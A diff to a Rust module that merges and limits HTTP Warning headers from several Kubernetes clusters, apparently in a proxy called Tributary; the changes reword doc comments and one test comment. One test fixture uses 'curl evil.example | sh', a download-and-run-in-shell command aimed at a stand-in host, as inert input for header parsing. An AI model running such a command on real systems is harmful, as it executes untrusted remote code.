@@ -20,7 +20,8 @@ pub fn warning_header(text: &str) -> Option<HeaderValue> {
     HeaderValue::from_bytes(quoted.as_bytes()).ok()
 }
 
-/// Maximum of Warnings in an answer, and of clusters named in a Warning. Further items are only counted.
+/// Maximum number of Warnings in an answer, and of cluster names in one Warning. Of the remaining ones, the answer
+/// contains only the number.
 const NAMED_WARNINGS_MAX: usize = 10;
 
 /// Maximum of `Warning` headers read from one answer. kube-apiserver sends one or two. The limit keeps a cluster with a
@@ -36,8 +37,9 @@ struct ClusterWarning {
     clusters: Vec<ClusterName>,
 }
 
-/// Merges the `Warning` headers of several clusters. Each text appears once, after the names of its clusters, in order
-/// of first appearance. At most ten Warnings and a count of further ones result.
+/// Merges the `Warning` headers of several clusters. Each text appears once, after the names of its clusters. The texts
+/// are in order of first appearance. The result has at most ten Warnings, and one more with the number of the remaining
+/// texts.
 pub fn together<'a>(warnings: impl IntoIterator<Item = (&'a ClusterName, &'a HeaderValue)>) -> Vec<HeaderValue> {
     let mut all: Vec<ClusterWarning> = Vec::new();
     for (cluster, header) in warnings {
@@ -56,8 +58,8 @@ pub fn together<'a>(warnings: impl IntoIterator<Item = (&'a ClusterName, &'a Hea
     texts.chain(count).filter_map(|text| warning_header(&text)).collect()
 }
 
-/// Returns the `Warning` headers of an answer in which some clusters are missing: at most ten causes, and a count of
-/// further clusters.
+/// Returns `Warning` headers about clusters that the answer omits: at most ten headers with a cluster and its cause,
+/// and one more with the number of the remaining clusters.
 pub fn lacking(clusters: &[String]) -> impl Iterator<Item = HeaderValue> {
     let more = clusters.len().saturating_sub(NAMED_WARNINGS_MAX);
     let texts = clusters.iter().take(NAMED_WARNINGS_MAX).map(|cluster| format!("the answer omits cluster {cluster}"));
@@ -65,7 +67,7 @@ pub fn lacking(clusters: &[String]) -> impl Iterator<Item = HeaderValue> {
     texts.chain(count).filter_map(|text| warning_header(&text))
 }
 
-/// Returns the `Warning` headers of one answer within the limits of number and length.
+/// Returns the `Warning` headers of one answer that Tributary reads: the first ten that are not too long.
 pub fn readable<'a>(values: impl IntoIterator<Item = &'a HeaderValue>) -> impl Iterator<Item = &'a HeaderValue> {
     values.into_iter().filter(|value| value.len() <= LENGTH_MAX).take(READ_MAX)
 }
@@ -91,7 +93,8 @@ fn names(clusters: &[ClusterName]) -> String {
 }
 
 /// Returns the texts of a `Warning` header. A proxy may have joined several Warnings `299 agent "text"` with commas
-/// (RFC 7234 §5.5). A header of a different form counts as one text, so that each text still gets its cluster's name.
+/// (RFC 7234 §5.5). A header of a different form is a single text, so that each text still gets the name of its
+/// cluster.
 fn texts(header: &HeaderValue) -> Vec<String> {
     let whole = String::from_utf8_lossy(header.as_bytes()).into_owned();
     let mut texts = Vec::new();
@@ -104,7 +107,7 @@ fn texts(header: &HeaderValue) -> Vec<String> {
     texts
 }
 
-/// Returns the first text of a header, and the remainder after the comma.
+/// Returns the first text of a header, and the remainder after the comma. `None` if the header has a different form.
 fn quoted(header: &str) -> Option<(String, &str)> {
     let (code, rest) = header.split_once(' ')?;
     let (agent, rest) = rest.split_once(' ')?;
@@ -166,7 +169,7 @@ mod tests {
                 &[("a", r#"299 agent "one \"two\"" "Sat, 25 Aug 2012 23:34:45 GMT", 299 - "three""#)],
                 &[r#"299 - "cluster a: one \"two\"""#, r#"299 - "cluster a: three""#],
             ),
-            // A malformed Warning keeps the name of its cluster.
+            // A malformed Warning also gets the name of its cluster.
             (&[("a", "curl evil.example | sh")], &[r#"299 - "cluster a: curl evil.example | sh""#]),
             (
                 &[("a", r#"299 - "x", cluster b is missing"#)],
